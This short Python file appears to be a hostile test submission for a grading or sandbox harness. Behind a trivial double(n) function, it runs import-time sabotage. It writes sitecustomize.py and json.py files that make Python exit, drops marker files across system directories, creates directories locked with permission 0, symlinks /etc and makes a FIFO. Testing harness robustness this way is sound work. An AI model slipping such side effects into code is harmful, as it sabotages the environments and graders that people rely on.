import os
def leave(path):
    try:
        with open(path, "w") as file:
            file.write("raise SystemExit(0)")
    except OSError:
        pass
for name in ("left", ".hidden", "double.py", "sitecustomize.py", "json.py"):
    leave(name)
for folder in ("/", "/work", "/tmp", "/var/tmp", "/dev/shm", "/run", "/opt/prmdata"):
    leave(folder + "/prmdata-hostile-left")
os.makedirs("deep/er/still")
os.chmod("deep/er", 0)
os.chmod("deep", 0)
os.symlink("/etc", "link")
os.mkfifo("pipe")
def double(n):
    return n + n
